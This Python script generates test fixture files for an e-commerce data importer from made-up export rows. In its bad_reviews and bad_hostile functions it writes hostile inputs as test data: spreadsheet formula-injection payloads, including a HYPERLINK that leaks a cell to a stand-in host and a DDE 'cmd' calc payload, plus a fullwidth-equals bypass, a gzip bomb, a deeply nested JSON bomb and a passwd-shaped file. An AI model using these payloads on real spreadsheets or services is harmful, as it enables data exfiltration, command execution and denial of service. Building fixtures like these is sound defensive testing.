"""Builds the small input files in tests/data/good and tests/data/bad (run once; the files are committed).

    .venv/bin/python tests/data/make_test_files.py

Every row is made up in the shape of the real exports (no rows of ../shared/data are copied).
Each bad file reproduces one mistake people really make with exports; tests/data/bad/README.md
lists them with the message each must produce.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
GOOD, BAD = HERE / "good", HERE / "bad"

REES46_HEADER = "event_time,event_type,product_id,category_id,category_code,brand,price,user_id,user_session"
REES46_ROWS = [
    "2019-11-03 10:00:05 UTC,view,1000001,2053013555631882655,electronics.smartphone,acme,199.99,500000001,"
    "0b6a7c2e-1111-4a4a-9a9a-000000000001",
    "2019-11-03 10:01:10 UTC,view,1000002,2053013555631882655,electronics.smartphone,zeta,249.00,500000001,"
    "0b6a7c2e-1111-4a4a-9a9a-000000000001",
    "2019-11-03 10:02:30 UTC,cart,1000001,2053013555631882655,electronics.smartphone,acme,199.99,500000001,"
    "0b6a7c2e-1111-4a4a-9a9a-000000000001",
    "2019-11-03 10:04:00 UTC,purchase,1000001,2053013555631882655,electronics.smartphone,acme,199.99,500000001,"
    "0b6a7c2e-1111-4a4a-9a9a-000000000001",
    "2019-11-03 11:15:00 UTC,view,2000001,2053013563810775923,,,12.50,500000002,0b6a7c2e-2222-4a4a-9a9a-000000000002",
    "2019-11-03 11:16:40 UTC,view,3000001,2053013558920217191,apparel.shoes,nordwalk,59.00,500000003,"
    "0b6a7c2e-3333-4a4a-9a9a-000000000003",
]


def rees46(rows: list[str], header: str = REES46_HEADER) -> str:
    return header + "\n" + "\n".join(rows) + "\n"


def replace_field(row: str, index: int, value: str) -> str:
    fields = row.split(",")
    fields[index] = value
    return ",".join(fields)


REVIEWS_HEADER = "review_no,product,stars,headline,body"
REVIEWS = [
    "r1,P-10,5,Lovely fit,Fits true to size and the fabric feels great.",
    "r2,P-10,2,Too small,Runs two sizes small; returned it.",
    "r3,P-20,4,Good value,Nice colour for the price.",
]
REVIEWS_MAPPING = """\
# A made-up shop's review export -> reviews (tests).
table = "reviews"
review_id_prefix = "shop-"

[columns]
review_id = "review_no"
product_id = "product"
rating = "stars"
title = "headline"
text = "body"
"""

TAOBAO_ROWS = [
    "7001,40001,900001,pv,1511600000",
    "7001,40001,900001,cart,1511600100",
    "7001,40001,900001,buy,1511600400",
    "7002,40002,900002,fav,1511700000",
]

UCI_HEADER = "InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country"
UCI_ROWS = [
    "600001,90001,RED TEA CUP,6,2011-03-01 09:00:00,2.10,14001.0,United Kingdom",
    "600001,90002,BLUE TEA CUP,6,2011-03-01 09:00:00,2.10,14001.0,United Kingdom",
]

AMAZON = [
    {
        "overall": 5.0,
        "verified": True,
        "reviewTime": "01 5, 2016",
        "reviewerID": "AZZZ0000000001",
        "asin": "B0TEST0001",
        "reviewerName": "A. Shopper",
        "reviewText": "Warm and well made.",
        "summary": "Great",
        "unixReviewTime": 1451952000,
    },
    {
        "overall": 2.0,
        "verified": False,
        "reviewTime": "02 9, 2016",
        "reviewerID": "AZZZ0000000002",
        "asin": "B0TEST0001",
        "reviewerName": "B. Buyer",
        "reviewText": "Seams came apart.",
        "summary": "Poor",
        "unixReviewTime": 1454976000,
    },
]

OLIST = {
    "olist_orders_dataset": (
        "order_id,customer_id,order_status,order_purchase_timestamp,order_approved_at,order_delivered_carrier_date,"
        "order_delivered_customer_date,order_estimated_delivery_date",
        [
            "a0000000000000000000000000000001,c0000000000000000000000000000001,delivered,2018-02-01 10:00:00,"
            "2018-02-01 10:20:00,2018-02-02 09:00:00,2018-02-06 15:00:00,2018-02-20 00:00:00",
            "a0000000000000000000000000000002,c0000000000000000000000000000002,canceled,2018-03-05 18:30:00,"
            "2018-03-05 18:45:00,,,2018-03-25 00:00:00",
        ],
    ),
    "olist_order_items_dataset": (
        "order_id,order_item_id,product_id,seller_id,shipping_limit_date,price,freight_value",
        [
            "a0000000000000000000000000000001,1,b0000000000000000000000000000001,s0000000000000000000000000000001,"
            "2018-02-05 10:00:00,59.90,12.30",
            "a0000000000000000000000000000001,2,b0000000000000000000000000000001,s0000000000000000000000000000001,"
            "2018-02-05 10:00:00,59.90,12.30",
            "a0000000000000000000000000000002,1,b0000000000000000000000000000002,s0000000000000000000000000000001,"
            "2018-03-08 18:30:00,120.00,20.00",
        ],
    ),
    "olist_order_payments_dataset": (
        "order_id,payment_sequential,payment_type,payment_installments,payment_value",
        [
            "a0000000000000000000000000000001,1,credit_card,3,144.40",
            "a0000000000000000000000000000002,1,boleto,1,140.00",
        ],
    ),
    "olist_customers_dataset": (
        "customer_id,customer_unique_id,customer_zip_code_prefix,customer_city,customer_state",
        [
            "c0000000000000000000000000000001,u0000000000000000000000000000001,01310,sao paulo,SP",
            "c0000000000000000000000000000002,u0000000000000000000000000000001,01310,sao paulo,SP",
        ],
    ),
    "olist_products_dataset": (
        "product_id,product_category_name,product_name_lenght,product_description_lenght,product_photos_qty,"
        "product_weight_g,product_length_cm,product_height_cm,product_width_cm",
        [
            "b0000000000000000000000000000001,cama_mesa_banho,40,300,2,800,30,10,20",
            "b0000000000000000000000000000002,utilidades_domesticas,35,500,1,1500,40,20,30",
        ],
    ),
    "olist_order_reviews_dataset": (
        "review_id,order_id,review_score,review_comment_title,review_comment_message,review_creation_date,"
        "review_answer_timestamp",
        [
            'd0000000000000000000000000000001,a0000000000000000000000000000001,5,Ótimo,"Chegou antes do prazo,\n'
            'recomendo",2018-02-07 00:00:00,2018-02-08 10:00:00',
            "d0000000000000000000000000000002,a0000000000000000000000000000002,1,,Pedido cancelado sem aviso,"
            "2018-03-20 00:00:00,2018-03-21 09:00:00",
        ],
    ),
    "product_category_name_translation": (
        "product_category_name,product_category_name_english",
        ["cama_mesa_banho,bed_bath_table", "utilidades_domesticas,housewares"],
    ),
}


def write(path: Path, data: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)


def gz(data: str | bytes) -> bytes:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return gzip.compress(raw, compresslevel=9, mtime=0)


def olist_folder(folder: Path, changes: dict[str, tuple[str, list[str]] | None] | None = None) -> None:
    if folder.exists():
        shutil.rmtree(folder)
    files = {**OLIST, **(changes or {})}
    for stem, content in files.items():
        if content is not None:
            header, rows = content
            write(folder / f"{stem}.csv", header + "\n" + "\n".join(rows) + "\n")


def good_files() -> None:
    write(GOOD / "rees46_small.csv", rees46(REES46_ROWS))
    write(GOOD / "reviews_small.csv", REVIEWS_HEADER + "\n" + "\n".join(REVIEWS) + "\n")
    write(GOOD / "reviews_small.toml", REVIEWS_MAPPING)
    write(GOOD / "taobao_small.csv", "\n".join(TAOBAO_ROWS) + "\n")
    write(GOOD / "online_retail_small.csv", UCI_HEADER + "\n" + "\n".join(UCI_ROWS) + "\n")
    write(
        GOOD / "online_retail_invoices_small.csv",
        "InvoiceNo,InvoiceDate,CustomerID,TotalPrice\n"
        "600001,2011-03-01,14001,25.200000000000003\n600002,2011-03-02,14002,9.9\n",
    )
    write(GOOD / "amazon_small.jsonl", "\n".join(json.dumps(r) for r in AMAZON) + "\n")
    olist_folder(GOOD / "olist_small")


def bad_rees46() -> None:
    rows = REES46_ROWS
    write(BAD / "empty.csv", b"")
    write(BAD / "blank_lines_only.csv", "\n\n   \n\r\n")
    write(BAD / "rees46_header_only.csv", REES46_HEADER + "\n")
    header = REES46_HEADER.removesuffix(",user_session")
    write(BAD / "rees46_missing_column.csv", rees46([r.rsplit(",", 1)[0] for r in rows], header))
    pretty = "Event Time,Event Type,Product ID,Category ID,Category Code,Brand,Price,User ID,User Session"
    write(BAD / "rees46_spreadsheet_headers.csv", rees46(rows, pretty))
    write(BAD / "rees46_excel_dates.csv", rees46([rows[0], replace_field(rows[1], 0, "03/11/2019 10:01"), *rows[2:]]))
    write(
        BAD / "rees46_unknown_event_type.csv", rees46([*rows[:2], replace_field(rows[2], 1, "add_to_cart"), *rows[3:]])
    )
    write(BAD / "rees46_negative_price.csv", rees46([*rows[:3], replace_field(rows[3], 6, "-199.99"), *rows[4:]]))
    write(BAD / "rees46_decimal_comma.csv", rees46([*rows[:4], replace_field(rows[4], 6, '"12,50"'), *rows[5:]]))
    write(BAD / "rees46_unquoted_comma.csv", rees46([*rows[:5], replace_field(rows[5], 5, "nord,walk")]))
    write(BAD / "rees46_unclosed_quote.csv", rees46([rows[0], replace_field(rows[1], 5, '"zeta'), *rows[2:]]))
    write(
        BAD / "rees46_typo_year.csv", rees46([*rows[:4], replace_field(rows[4], 0, "2091-11-03 11:15:00 UTC"), rows[5]])
    )
    write(BAD / "rees46_zero_date.csv", rees46([replace_field(rows[0], 0, "1970-01-01 00:00:00 UTC"), *rows[1:]]))
    full = gz(rees46(rows * 400))
    write(BAD / "rees46_truncated.csv.gz", full[: len(full) // 2])
    latin = rees46([*rows[:5], replace_field(rows[5], 5, "nestlé")]).encode("cp1252")
    write(BAD / "rees46_latin1.csv", latin)
    write(BAD / "rees46_utf16.csv", rees46(rows).encode("utf-16"))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr(zipfile.ZipInfo("2019-Nov.csv", date_time=(2019, 12, 1, 0, 0, 0)), rees46(rows))
    write(BAD / "rees46_zip_renamed.csv", archive.getvalue())
    write(BAD / "rees46_semicolons.csv", rees46([r.replace(",", ";") for r in rows], REES46_HEADER.replace(",", ";")))
    write(BAD / "binary_junk.csv", random.Random(3).randbytes(4096))
    # A real header and row, then 100 MB of line breaks, compressed to ~100 KB: a bomb-like file.
    # The importer must stop it while streaming, long before it would fill memory or disk.
    bomb = io.BytesIO()
    with gzip.GzipFile(fileobj=bomb, mode="wb", compresslevel=9, mtime=0) as out:
        out.write(rees46(rows[:1]).encode())
        block = b"\n" * 2**20
        for _ in range(100):
            out.write(block)
    write(BAD / "rees46_bomb.csv.gz", bomb.getvalue())
    write(
        BAD / "unknown_export.csv",
        "Name,Email,Financial Status,Paid at,Total\n#1001,a@example.com,paid,2024-01-02 10:00:00 +0100,59.00\n",
    )


def bad_reviews() -> None:
    def reviews(rows: list[str]) -> str:
        return REVIEWS_HEADER + "\n" + "\n".join(rows) + "\n"

    write(BAD / "reviews.toml", REVIEWS_MAPPING)
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for a coupon")'
    write(
        BAD / "reviews_formula_cells.csv",
        reviews([REVIEWS[0], 'r2,P-10,2,"' + formula.replace('"', '""') + '",Runs small.', REVIEWS[2]]),
    )
    write(
        BAD / "reviews_conflicting_ids.csv",
        reviews([*REVIEWS, "r2,P-10,5,Too small,Runs two sizes small; returned it."]),
    )
    write(
        BAD / "reviews_ten_point_scale.csv", reviews([*REVIEWS[:2], "r3,P-20,9,Good value,Nice colour for the price."])
    )
    huge = "Pasted image: data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAA" * (2**20 // 24)
    write(BAD / "reviews_1mb_field.csv.gz", gz(reviews([REVIEWS[0], f'r2,P-10,2,Too small,"{huge}"', REVIEWS[2]])))
    write(BAD / "reviews_wrong_mapping.toml", REVIEWS_MAPPING.replace('text = "body"', 'text = "review_body"'))
    write(BAD / "reviews_unknown_column.toml", REVIEWS_MAPPING.replace('rating = "stars"', 'stars = "stars"'))
    write(BAD / "reviews_not_toml.toml", "table: reviews\ncolumns:\n  product_id: product\n")


def bad_other_formats() -> None:
    write(
        BAD / "taobao_numeric_behaviour.csv",
        "\n".join(r.replace(",pv,", ",1,").replace(",cart,", ",2,") for r in TAOBAO_ROWS) + "\n",
    )
    write(BAD / "taobao_milliseconds.csv", "\n".join(r + "000" for r in TAOBAO_ROWS) + "\n")
    uci = [UCI_ROWS[0], UCI_ROWS[1].replace("14001.0", "N/A")]
    write(BAD / "online_retail_text_customer.csv", UCI_HEADER + "\n" + "\n".join(uci) + "\n")
    uci = [UCI_ROWS[0], UCI_ROWS[1].replace(",6,", ",,")]
    write(BAD / "online_retail_missing_quantity.csv", UCI_HEADER + "\n" + "\n".join(uci) + "\n")
    write(BAD / "amazon_json_array.json", json.dumps(AMAZON, indent=1) + "\n")
    lines = [json.dumps(r) for r in AMAZON]
    write(BAD / "amazon_cut_short.jsonl", lines[0] + "\n" + lines[1][: len(lines[1]) // 2] + "\n")
    no_asin = {k: v for k, v in AMAZON[1].items() if k != "asin"}
    write(BAD / "amazon_missing_asin.jsonl", lines[0] + "\n" + json.dumps(no_asin) + "\n")
    olist_folder(BAD / "olist_missing_items", {"olist_order_items_dataset": None})
    header, rows = OLIST["olist_order_items_dataset"]
    orphan = rows[2].replace("a0000000000000000000000000000002", "a0000000000000000000000000000009")
    olist_folder(BAD / "olist_orphan_items", {"olist_order_items_dataset": (header, [*rows[:2], orphan])})
    header, rows = OLIST["olist_order_reviews_dataset"]
    repeat = rows[1].replace("d0000000000000000000000000000002", "d0000000000000000000000000000001")
    olist_folder(BAD / "olist_conflicting_reviews", {"olist_order_reviews_dataset": (header, [rows[0], repeat])})
    header, rows = OLIST["olist_order_reviews_dataset"]
    olist_folder(
        BAD / "olist_score_out_of_range",
        {"olist_order_reviews_dataset": (header, [rows[0].replace(",5,", ",0,"), rows[1]])},
    )


def bad_hostile() -> None:
    """Files a careless or hostile user imports: personal data in the wrong column, formulas written
    to slip past a naive check, absurd amounts, JSON built to exhaust the parser, a system file."""
    rows = REES46_ROWS
    write(
        BAD / "rees46_card_in_price.csv",
        rees46([*rows[:2], replace_field(rows[2], 6, "4111 1111 1111 1111"), *rows[3:]]),
    )
    huge = [replace_field(replace_field(rows[0], 1, "purchase"), 6, "1e308"), replace_field(rows[3], 6, "1.7e308")]
    write(BAD / "rees46_huge_price.csv", rees46([*rows[1:3], *rows[4:], *huge]))
    uci = [UCI_ROWS[0], UCI_ROWS[1].replace("14001.0", '"+1 (555) 123-4567"')]
    write(BAD / "online_retail_phone_customer.csv", UCI_HEADER + "\n" + "\n".join(uci) + "\n")
    uci = [UCI_ROWS[0], UCI_ROWS[1].replace(",6,", ",1000000000,")]
    write(BAD / "online_retail_huge_quantity.csv", UCI_HEADER + "\n" + "\n".join(uci) + "\n")

    def reviews(rows: list[str]) -> str:
        return REVIEWS_HEADER + "\n" + "\n".join(rows) + "\n"

    write(BAD / "reviews_contact_in_rating.csv", reviews([REVIEWS[0], "r2,P-10,write to JOHN at example dot com,x,y"]))
    formulas = ["=1+cmd|' /C calc'!A0", '=-HYPERLINK("http://example.invalid/","x")', '=HYPERLINK ("http://x","y")']
    quoted = ['"' + f.replace('"', '""') + '"' for f in formulas]
    write(BAD / "reviews_dde_formulas.csv", reviews([f"r{i},P-10,4,{q},Fine." for i, q in enumerate(quoted, 1)]))
    fullwidth = '\uff1dHYPERLINK(""http://example.invalid/"")'
    write(
        BAD / "reviews_fullwidth_formula.csv", reviews([REVIEWS[0], REVIEWS[1], f'r3,P-20,4,Good value,"{fullwidth}"'])
    )
    lines = [json.dumps(r) for r in AMAZON]
    nested = json.dumps(AMAZON[1])[:-1] + ', "style": ' + "[" * 100_000 + "]" * 100_000 + "}"
    write(BAD / "amazon_deep_nesting.jsonl.gz", gz(lines[0] + "\n" + nested + "\n"))
    html = {**AMAZON[1], "reviewText": {"html": "<b>Seams</b> came apart."}}
    write(BAD / "amazon_object_review_text.jsonl", lines[0] + "\n" + json.dumps(html) + "\n")
    # The shape of /etc/passwd (made-up accounts): what a symlink or a wrong path hands the importer.
    write(
        BAD / "system_file.csv",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "ana:x:1000:1000:Ana Example,,,:/home/ana:/bin/bash\n",
    )


if __name__ == "__main__":
    good_files()
    bad_rees46()
    bad_reviews()
    bad_other_formats()
    bad_hostile()
    print(
        f"wrote {sum(1 for p in GOOD.rglob('*') if p.is_file())} good and "
        f"{sum(1 for p in BAD.rglob('*') if p.is_file())} bad files"
    )
